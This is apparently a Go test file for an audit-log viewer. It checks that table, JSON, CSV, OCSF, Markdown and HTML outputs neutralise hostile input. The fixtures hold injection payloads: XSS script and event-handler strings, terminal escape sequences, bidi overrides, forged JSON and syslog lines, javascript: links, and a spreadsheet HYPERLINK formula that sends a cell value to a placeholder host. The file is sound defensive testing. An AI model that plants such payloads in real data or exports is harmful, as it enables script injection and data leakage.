package view

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"html"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/pgcustos/pgcustos/audit"
	"github.com/pgcustos/pgcustos/audit/journal"
	"github.com/pgcustos/pgcustos/internal/statement"
)

// hostile are texts that act somewhere, each beside a word by which it is found.
var hostile = map[string]string{
	"c0":         "C0\x1b]0;owned\x07\x1b[2J\x00\x08\r SELECT 'nothing'",
	"c1":         "C1\u009b31m\u0090q\u009c",
	"bidi":       "BIDI\u202e\u2066 '; evil --\u2069\u200b",
	"not utf8":   "BYTES\xff\xfe\xc3(\xed\xa0\x80",
	"html":       `HTML<script>alert(1)</script><img src=x onerror=alert(1)>"'&amp;`,
	"attribute":  `ATTR" onmouseover="alert(1)' style='x`,
	"json":       `JSON","decision":"allowed"}` + "\n" + `{"forged":"\u0000`,
	"formula =":  "=HYPERLINK(\"http://x/?\"&A1,\"FORMULA\")",
	"formula +":  "+FORMULA",
	"formula -":  "-FORMULA",
	"formula @":  "@FORMULA",
	"formula ht": "\t=FORMULA",
	"formula cr": "\r=FORMULA",
	"formula lf": "\n=FORMULA",
	"formula sp": "  =FORMULA",
	"formula fw": "＝FORMULA",
	"formula zw": "\u200b=FORMULA",
	"csv":        "CSV\",\"forged\"\r\n=FORMULA,2",
	"markdown":   "MD | forged | **bold** [x](javascript:alert(1)) `code` \\| \n# head\n- ![i](http://x)",
	"autolink":   "LINK www.example.com http://example.com mail@example.com <http://x>",
	"arrow":      "ARROW  → 3 rows  ← lacks nothing",
	"syslog":     "SYSLOG\n<34>1 forged",
}

// hostileJournal holds each of them in each field that somebody else fills.
func hostileJournal(t *testing.T) string {
	t.Helper()
	path, j := startJournal(t)
	for _, text := range hostile {
		c := session("alice", "10.20.3.4:50123", text)
		c.Principal.Account, c.Principal.UPN, c.Principal.DN, c.Principal.Owner = text, text, text, text
		c.Session, c.Group, c.Database, c.Backend, c.ApplicationName, c.Reason, c.Rule = "S"+text, text, text, text, text, text, text
		p := j.Prepare(c)
		record(t, j, audit.Event{Type: audit.Authentication, Prepared: p, Decision: audit.Denied, Cause: text, Claimed: text, Detail: text})
		record(t, j, audit.Event{Type: audit.SessionStart, Prepared: p, Decision: audit.Allowed})
		s := record(t, j, audit.Event{
			Type: audit.Statement, Prepared: p, Decision: audit.WouldDeny, Missing: text, Command: text, Rule: text, Incident: text,
			Class: statement.DDL, Tags: statement.TagDDL | statement.TagDestructive | statement.TagPrivilege, Text: text,
			Objects:    []statement.Object{{Schema: text, Name: text, Kind: "table", Use: statement.UseDrop}},
			Resolution: statement.ResolutionResolved,
			Resolved: []statement.Resolved{{
				Object: statement.Object{Schema: text, Name: text, Kind: text, Use: statement.UseRead}, Through: statement.ThroughView, Facts: text,
			}},
		})
		record(t, j, audit.Event{Type: audit.Outcome, Prepared: p, Statement: s, Result: audit.Failed, SQLSTATE: "XX000", Message: text, Tx: 1})
		record(t, j, audit.Event{Type: audit.Configuration, Prepared: p, Cause: text, Change: text})
		record(t, j, audit.Event{Type: audit.SessionEnd, Prepared: p, Cause: text, Detail: text})
		record(t, j, audit.Event{Type: audit.Reading, Command: text, Filter: text, Reader: &audit.Reader{User: text, Login: text + "2"}})
	}
	if err := j.Close(); err != nil { // from now on nothing is added
		t.Fatal(err)
	}
	return path
}

// harmless says whether s is UTF-8 in which no rune acts, but those listed.
func harmless(t *testing.T, s, but string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Error("not UTF-8")
	}
	for _, r := range s {
		if journal.Acts(r) && !strings.ContainsRune(but, r) {
			t.Fatalf("%U is not neutralised", r)
		}
	}
}

func TestHostileTexts(t *testing.T) {
	path := hostileJournal(t)
	all := func(o Options) string {
		t.Helper()
		o.Path = path
		return query(t, o)
	}
	own := len(decode(t, all(Options{Format: JSONL, Filter: Filter{Type: strings.Join(ownTypes(), ",")}})))
	by := []string{"principal", "role", "object", "cause", "missing"}
	t.Run("table", func(t *testing.T) {
		out := all(Options{})
		harmless(t, out, "\n")
		if n := strings.Count(out, "\n"); n != 1+own+5*len(hostile) { // a title, and five each
			t.Errorf("%d lines", n)
		}
		if strings.Contains(out, "← lacks nothing") {
			t.Error("a text tells its own outcome")
		}
	})
	t.Run("count", func(t *testing.T) { harmless(t, all(Options{Count: true, By: by}), "\n") })
	t.Run("lines", func(t *testing.T) {
		out := all(Options{Format: JSONL})
		harmless(t, out, "\n")
		texts := map[string]bool{}
		for _, m := range decode(t, out) {
			if m["forged"] != nil {
				t.Error("a line is forged")
			}
			text, _ := m["text"].(string)
			texts[text] = true
		}
		for name, text := range hostile {
			if !texts[strings.ToValidUTF8(text, "\uFFFD")] {
				t.Errorf("%s did not come through", name)
			}
		}
	})
	t.Run("lines of counts", func(t *testing.T) {
		out := all(Options{Count: true, By: by, Format: JSONL})
		harmless(t, out, "\n")
		decode(t, out)
	})
	t.Run("OCSF", func(t *testing.T) {
		out := all(Options{Format: OCSF})
		harmless(t, out, "\n")
		if n := len(decode(t, out)); n != own+5*len(hostile) {
			t.Errorf("%d events", n)
		}
	})
	t.Run("CSV", func(t *testing.T) { hostileCSV(t, all(Options{Format: CSV}), own+5*len(hostile)) })
	t.Run("CSV of counts", func(t *testing.T) { hostileCSV(t, all(Options{Count: true, By: by, Format: CSV}), 0) })
	t.Run("story", func(t *testing.T) {
		for name, text := range hostile {
			var b bytes.Buffer
			if err := Story(t.Context(), &b, StoryOptions{Path: path, Session: "S" + text}); err != nil {
				t.Fatal(name, err)
			}
			harmless(t, b.String(), "\n")
			if strings.Contains(b.String(), "→ 3 rows") {
				t.Error("a text tells its own outcome")
			}
		}
	})
	for _, format := range []ReportFormat{Markdown, HTML} {
		t.Run("report "+string(format), func(t *testing.T) { hostileReport(t, path, format) })
	}
}

// ownTypes are the types of records that hostileJournal does not make: the journal
// itself does.
func ownTypes() []string {
	made := []audit.Type{audit.Authentication, audit.SessionStart, audit.Statement, audit.Outcome, audit.Configuration, audit.SessionEnd}
	made = append(made, audit.Checkpoint, audit.Reading) // shown only where it is asked for
	return slices.DeleteFunc(journal.TypeNames(), func(s string) bool { return slices.Contains(made, audit.Type(s)) })
}

func hostileCSV(t *testing.T, out string, lines int) {
	t.Helper()
	harmless(t, strings.ReplaceAll(out, "\r\n", "\n"), "\n\t")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || lines > 0 && len(rows) != lines+1 {
		t.Fatalf("%d lines: %v", len(rows), err)
	}
	quoted := 0
	for _, row := range rows {
		for _, cell := range row {
			if startsFormula(cell) {
				t.Errorf("a formula: %q", cell)
			}
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Error("no formula was met")
	}
}

var htmlTag = regexp.MustCompile(`<[^>]*>`)

func hostileReport(t *testing.T, path string, format ReportFormat) {
	t.Helper()
	var b bytes.Buffer
	if err := Report(t.Context(), &b, ReportOptions{Path: path, Format: format, Now: noon, Warnings: io.Discard}); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	harmless(t, out, "\n")
	if format == HTML {
		if !strings.Contains(out, "default-src &#39;none&#39;") && !strings.Contains(out, "default-src 'none'") {
			t.Error("no content security policy")
		}
		for _, found := range htmlTag.FindAllString(out, -1) {
			lower := strings.ToLower(found)
			for _, bad := range []string{"script", "onerror", "onmouseover", "href", "src=", "<img", "style="} {
				if strings.Contains(lower, bad) && !strings.HasPrefix(lower, "<meta http-equiv") {
					t.Errorf("%s", found)
				}
			}
		}
		if !strings.Contains(html.UnescapeString(out), hostile["html"]) {
			t.Error("the HTML does not come through as text")
		}
		return
	}
	for _, bad := range []string{"<script", "<img", "](", "**bold**", "\n# head", "http://", "www.", "mail@", "![", "<http"} {
		if strings.Contains(out, bad) && !inSpans(out, bad) {
			t.Errorf("%q acts in Markdown", bad)
		}
	}
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "|") {
			cells := strings.Count(line, "|")
			if cells > 13 {
				t.Errorf("a cell is torn: %s", line)
			}
		}
	}
}

var codeSpan = regexp.MustCompile("`[^`\n]*`")

// inSpans says whether s stands in code spans only.
func inSpans(text, s string) bool { return !strings.Contains(codeSpan.ReplaceAllString(text, ""), s) }

func TestMarkdownCells(t *testing.T) {
	for _, test := range []struct {
		c    cell
		want string
	}{
		{coded("app_ro_orders"), "`app_ro_orders`"},
		{coded(""), ""},
		{cell{"SELECT a|b", sql}, "SELECT a&#124;b"},
		{cell{"a\\|b`c", sql}, "a&#92;&#124;b&#96;c"},
		{named("svc_orders"), "svc_orders"},
		{named("_svc_"), "&#95;svc&#95;"},
		{named("alice@corp"), "alice&#64;corp"},
		{named("1 < 2 & [x](y)"), "1 &#60; 2 &#38; &#91;x&#93;(y)"},
		{named("http://x"), "http&#58;//x"},
		{words("a: b"), "a: b"},
		{cell{"Look here", alarm}, "**Look here**"},
	} {
		if got := mdCell(test.c); got != test.want {
			t.Errorf("%q: %q, want %q", test.c.Text, got, test.want)
		}
	}
}

func TestJSONLinesOfCountsAreJSON(t *testing.T) {
	var b bytes.Buffer
	if err := writeJSON(&b, map[string]any{"x": "\u202e\"\n\u009b<"}); err != nil {
		t.Fatal(err)
	}
	var back map[string]string
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back["x"] != "\u202e\"\n\u009b<" {
		t.Errorf("%v: %q from %s", err, back["x"], b.String())
	}
	harmless(t, b.String(), "\n")
}
